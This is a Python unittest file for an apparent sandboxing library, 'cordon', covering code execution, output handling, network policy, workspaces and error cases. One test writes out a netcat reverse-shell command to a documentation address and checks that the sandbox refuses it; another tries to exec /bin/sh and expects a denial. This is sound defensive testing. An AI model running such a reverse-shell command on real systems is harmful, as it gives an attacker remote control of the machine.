# SPDX-License-Identifier: MIT
"""cordon.run and cordon.stream."""
import asyncio
import os
import pathlib
import socket
import unittest

import cordon
from support import BINARY, TIER, Case, children, descriptors


class Run(Case):
    def test_result(self):
        """the result has output, status and decision"""
        r = self.client().run("import sys\nprint('h\u00e9')\nprint('oh', file=sys.stderr)\nsys.exit(3)")
        self.assertEqual((r.status, r.exit_code, r.signal, r.ok), ("exited", 3, None, False))
        self.assertEqual((r.stdout, r.text, r.stderr, r.errors), ("h\u00e9\n".encode(), "h\u00e9\n", b"oh\n", "oh\n"))
        self.assertEqual((r.tier, r.origin, r.verdict, r.state, r.cause), (TIER, "user", "allow", "clean", None))
        self.assertIn("seccomp", r.layers)
        self.assertEqual((len(r.conversation), r.effects), (32, ()))
        self.assertTrue(r.audit_id.startswith("run:"))
        self.assertGreater(r.usage.memory_peak, 0)
        self.assertFalse(r.truncated)
        self.assertIs(r.error, None)

    def test_everything(self):
        """arguments, input, variables and bytes arrive unchanged"""
        code = "import os, sys\nsys.stdout.buffer.write(repr((sys.argv[1:], os.environ['K'])).encode() + sys.stdin.buffer.read())"
        data = bytes(range(256)) * 1000
        args = ["--json", "-", "--", "a b", "\u20ac", ""]
        r = self.client().run(code, args=args, env={"K": "v=1"}, input=data)
        self.assertEqual(r.stdout, repr((args, "v=1")).encode() + data)

    def test_code(self):
        """code may be large, may import from __future__, and keeps its line numbers"""
        code = "from __future__ import annotations\n" + "# " + "x" * 300000 + "\n1 / 0\n"
        r = self.client().run(code)
        self.assertIn("line 3", r.errors)
        self.assertIn("ZeroDivisionError", r.errors)
        r = self.client().run("print(open('/proc/1/cmdline').read() if False else open('/proc/self/cmdline').read())")
        self.assertNotIn("print", r.text)

    def test_languages(self):
        """bash by LANG, and a file by its suffix"""
        self.assertEqual(self.client().run("echo $((6 * 7))", lang="bash").text, "42\n")
        path = pathlib.Path(self.path("-x.py"))
        path.write_text("print(__name__)")
        self.addCleanup(os.chdir, os.getcwd())
        os.chdir(self.dir)
        self.assertEqual(self.client().run(path).text, "__main__\n")
        self.assertEqual(self.client().run(pathlib.Path("-x.py")).text, "__main__\n")
        self.assertTrue(self.client().run(pathlib.Path("/bin/true"), lang="binary").ok)

    def test_binary(self):
        """output that is not text"""
        r = self.client().run("import os\nos.write(1, bytes(range(256)))\nos.write(2, b'\\xff')")
        self.assertEqual((r.stdout, r.stderr), (bytes(range(256)), b"\xff"))
        self.assertTrue(r.text.endswith("\\xfe\\xff"))

    def test_much(self):
        """10 MB of output arrive whole, or cut with the number of missing bytes"""
        code = "import sys\nfor i in range(1310720): sys.stdout.write('%07d\\n' % i)"
        whole = b"".join(b"%07d\n" % i for i in range(1310720))
        r = self.client().run(code, output="64M")
        self.assertEqual(len(r.stdout), 10485760)
        self.assertEqual(r.stdout, whole)
        self.assertFalse(r.truncated)
        seen = []
        r = self.client().run(code, on_output=seen.append)
        gap = r.truncated["stdout"]
        self.assertEqual((gap.total, gap.omitted + len(r.stdout)), (10485760, 10485760))
        self.assertEqual(len(r.stdout), 1 << 20)
        self.assertEqual(r.stdout[:gap.at], whole[:gap.at])
        self.assertEqual(r.stdout[gap.at:], whole[gap.at - len(r.stdout):])
        self.assertEqual(b"".join(o.data for o in seen), r.stdout)
        self.assertEqual(sum(o.omitted for o in seen), gap.omitted)

    def test_input(self):
        """input does not expose a run"""
        client = self.client(user=False)
        conversation = client.new_conversation()
        code = "import sys\nprint(sys.stdin.read())"
        r = client.run(code, conversation=conversation, input="hello")
        self.assertEqual((r.text, r.state, r.cause), ("hello\n", "clean", None))

    @unittest.skipIf(TIER == "no-userns", "no overlay")
    def test_workspace(self):
        """changes of a workspace are reported, and applied on request"""
        os.mkdir(self.path("w"))
        if os.getuid() == 0:
            os.chmod(self.dir, 0o755)
        client, code = self.client(), "open('new', 'w').write('x' * 5)"
        r = client.run(code, workspace=self.path("w"), diff=True)
        self.assertEqual([(c.path, c.change, c.size) for c in r.changes], [("new", "created", 5)])
        self.assertEqual((r.state, r.cause), ("exposed", f"directory {self.path('w')} is untrusted"))
        self.assertEqual(os.listdir(self.path("w")), [])
        self.person("trust", self.path("w"))
        r = client.run(code, workspace=self.path("w"), apply=True)
        self.assertEqual(r.state, "clean")
        self.assertEqual([(e.effect, e.object, e.outcome, e.done, e.by) for e in r.effects],
                         [("write", "new", "policy", True, "policy")])
        self.assertEqual(os.listdir(self.path("w")), ["new"])
        r = client.run("print(open('new').read())", workspace=self.path("w"), mode="ro")
        self.assertEqual(r.text, "xxxxx\n")

    @unittest.skipIf(TIER == "no-userns", "no mounts")
    def test_rw(self):
        """more directories are written to directly"""
        more = self.path("more")
        os.mkdir(more)
        if os.getuid() == 0:
            os.chmod(self.dir, 0o755)
            os.chown(more, 61000, 61000)
        self.person("trust", more)
        r = self.client().run(f"open('{more}/new', 'w').write('x')", rw=[more])
        self.assertEqual([(e.effect, e.object, e.outcome, e.done) for e in r.effects],
                         [("write", more, "policy", True)])
        self.assertEqual(os.listdir(more), ["new"])

    @unittest.skipIf(TIER == "no-userns", "no network of its own")
    def test_net(self):
        """a host that the policy lists is reached, another is not, and both are reported"""
        with socket.socket() as s, socket.socket() as other:
            for one in (s, other):
                one.bind(("127.0.0.1", 0))
                one.listen()
                one.settimeout(0.2)
            hosts = [f"127.0.0.1:{one.getsockname()[1]}" for one in (s, other)]
            with open(self.path("policy"), "w") as f:
                f.write(f"version: 2\nnet:\n  allow: [\"{hosts[0]}\"]\n")
            code = ("import socket\nfor h in %r:\n try: socket.create_connection(h.split(':'), 5).sendall(b'hello')\n"
                    " except OSError as e: print(type(e).__name__)" % hosts)
            r = self.client(policy=self.path("policy")).run(code, net=hosts, connections=4, net_out="1M")
            self.assertEqual(r.text, "PermissionError\n", r.errors)
            with s.accept()[0] as got:
                self.assertEqual(got.recv(9), b"hello")
            with self.assertRaises(OSError):
                other.accept()
            self.assertEqual([(f"{c.address}:{c.port}", c.verdict, c.bytes_out) for c in r.egress],
                             [(hosts[0], "connected", 5), (hosts[1], "refused", 0)])
            self.assertEqual([(e.effect, e.object, e.outcome) for e in r.effects],
                             [("net", hosts[0], "policy"), ("net", hosts[1], "waits")])
            self.assertIn(f"--net {hosts[1]}", r.effects[1].command)

    def test_events(self):
        """events come as they happen"""
        code = "import os\nprint('one', flush=True)\ntry:\n os.execv('/bin/sh', ['sh'])\nexcept OSError: pass\nprint('two')"
        told = []
        r = self.client().run(code, on_event=told.append)
        kinds = [e.kind for e in told]
        self.assertEqual((kinds[0], kinds[-1]), ("started", "result"))
        self.assertLess(kinds.index("denial"), len(kinds) - 1)
        refusal = next(e for e in told if e.kind == "denial")
        self.assertEqual((refusal.call, refusal.target), ("execve", "/bin/sh"))
        self.assertEqual(told[0].audit_id, r.audit_id)
        self.assertEqual(told[-1].result, r)
        again = list(self.client().stream(code))
        self.assertEqual({e.kind for e in again}, set(kinds))
        self.assertEqual(b"".join(e.data for e in again if isinstance(e, cordon.Output)), b"one\ntwo\n")
        self.assertEqual(again[-1].result.text, "one\ntwo\n")

    def test_live(self):
        """the iterator yields lines while the program runs; leaving it ends the run"""
        before = descriptors()
        events = self.client().stream("import time\nprint('on', flush=True)\ntime.sleep(1000)", time=900)
        for e in events:
            if isinstance(e, cordon.Output):
                break
        self.assertEqual(len(children()), 1)
        events.close()
        self.assertEqual(children(), [])
        self.assertEqual(descriptors(), before)

    def test_callback(self):
        """an exception in a callback ends the run and is raised"""
        def fail(event):
            raise ZeroDivisionError
        before, code = descriptors(), "print(1, flush=True)\nwhile True: pass"
        for use in (lambda: self.client().run(code, time=900, on_output=fail),
                    lambda: list(self.client().stream(code, time=900, on_event=fail)),
                    lambda: asyncio.run(self.aclient().run(code, time=900, on_output=fail))):
            try:
                use()
                self.fail("no error came")
            except ZeroDivisionError:
                # The run is over now, though the exception still holds every frame.
                self.assertEqual((children(), descriptors()), ([], before))


class Errors(Case):
    def test_refused(self):
        """a refused run has the reason of the command line"""
        with self.assertRaises(cordon.Refused) as e:
            self.client().run("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')")
        self.assertIn("CORDON-2026-0001", str(e.exception))
        self.assertEqual(e.exception.result.verdict, "deny")
        self.assertEqual(e.exception.result.origin, "hostile")
        self.assertIn("CORDON-2026-0001", [h.id for h in e.exception.result.rules])
        self.assertTrue(e.exception.reasons)

    def test_limits(self):
        """a limit is named, and the output until then is kept"""
        for code, limit, options in (("while True: pass", "time", {"time": 0.3}),
                                     ("while True: pass", "cpu-time", {"cpu_time": "300ms"})):
            with self.subTest(limit), self.assertRaises(cordon.LimitReached) as e:
                self.client().run("print('first', flush=True)\n" + code, **options)
            self.assertEqual(e.exception.limit, limit)
            self.assertEqual(e.exception.result.text, "first\n")

    def test_check(self):
        """check=True raises for another status and for a signal"""
        with self.assertRaises(cordon.Failed) as e:
            self.client().run("1 / 0", check=True)
        self.assertIn("ZeroDivisionError", str(e.exception))
        with self.assertRaises(cordon.Failed) as e:
            self.client().run("import os\nos.kill(os.getpid(), 11)", check=True)
        self.assertEqual(e.exception.result.signal, 11)
        self.assertIn("11", str(e.exception))

    def test_request(self):
        """a wrong value is an error, from the client or from Cordon"""
        for options in ({"mode": "no"}, {"args": ["a\0b"]}, {"time": "5x"}, {"tier": "none"}, {"lang": "perl"},
                        {"workspace": "/nothing"}, {"env": {"": "x"}}, {"env": {"A=B": "x"}}, {"env": {"A\0": "x"}},
                        {"env": {"A": "x\0y"}}, {"args": ["\ud800"]}, {"env": {"A": "\ud800"}}, {"input": "\ud800"}):
            with self.subTest(str(options)), self.assertRaises(cordon.BadRequest) as e:
                self.client().run("print(1)", **options)
            self.assertTrue(str(e.exception).startswith((*options, "--", "cannot use", "/nothing")), e.exception)
        with self.assertRaisesRegex(cordon.BadRequest, "^code: cannot be encoded as UTF-8"):
            self.client().run("print('\ud800')")
        with self.assertRaises(cordon.BadRequest):
            self.client().run(pathlib.Path("/nothing.py"))
        with self.assertRaises(TypeError):
            self.client().run("print(1)", memroy="1M")

    def test_values(self):
        """a value is never taken for an option"""
        with self.assertRaises(cordon.BadRequest):
            self.client().run("print(1)", lang="--tier=no-userns")
        r = self.client().run("import sys\nprint(sys.argv[1:])", args=["--tier", "no-userns"])
        self.assertEqual((r.tier, r.text), (TIER, "['--tier', 'no-userns']\n"))

    def test_unseen(self):
        """no id, variable or argument is on a command line, which all accounts can read"""
        words = []

        def look(event):
            for pid, _ in children():
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    words.append(f.read())
        client = self.client(user=False)
        conversation = client.new_conversation()
        code = "import os, sys\nprint(os.environ['KEY'], sys.argv[1:])"
        options = {"env": {"KEY": "s3cret=x"}, "args": ["h1dden"]}
        plan = client.plan(code, conversation=conversation)
        r = client.run(code, conversation=conversation, plan=plan, on_event=look, **options)
        self.assertEqual((r.text, r.origin), ("s3cret=x ['h1dden']\n", "agent"))
        self.assertIn("the plan gives nothing", r.reasons[0])  # so the id arrived
        self.assertIn(b"--events", words[0])
        plan = client.plan(code, conversation=conversation, **options)
        r = client.run(code, conversation=conversation, plan=plan, on_event=look, **options)
        self.assertEqual((r.text, r.origin), ("s3cret=x ['h1dden']\n", "plan"))
        for secret in (conversation.conversation, plan.ticket, "s3cret", "h1dden"):
            self.assertEqual([w for w in words if secret.encode() in w], [])

    def test_isolate(self):
        """a missing layer (an ordinary user has no cgroup) is named with cause and cure"""
        binary = BINARY
        if os.getuid() == 0:
            os.chmod(self.dir, 0o755)
            os.chown(self.path("state"), 61000, 61000)
            binary = self.script("exec setpriv --reuid 61000 --regid 61000 --clear-groups 'CORDON' \"$@\"")
        with self.assertRaises(cordon.CannotIsolate) as e:
            self.client(binary=binary, tier="full").run("print(1)")
        self.assertEqual(e.exception.layer, "cgroup")
        self.assertTrue(e.exception.cause and e.exception.cure)

    def test_missing(self):
        """no program cordon, or one that cannot be started"""
        with self.assertRaises(cordon.NotInstalled):
            self.client(binary="/nothing/cordon").run("print(1)")
        with self.assertRaises(cordon.CannotIsolate):
            self.client(binary=self.dir).run("print(1)")
        old, path = os.environ.pop("CORDON_BINARY"), os.environ["PATH"]
        try:
            os.environ["PATH"] = self.dir
            with self.assertRaises(cordon.NotInstalled):
                self.client(binary=None).run("print(1)")
            os.symlink(BINARY, self.path("cordon"))
            self.assertEqual(self.client(binary=None).transport.program, self.path("cordon"))
        finally:
            os.environ.update(CORDON_BINARY=old, PATH=path)
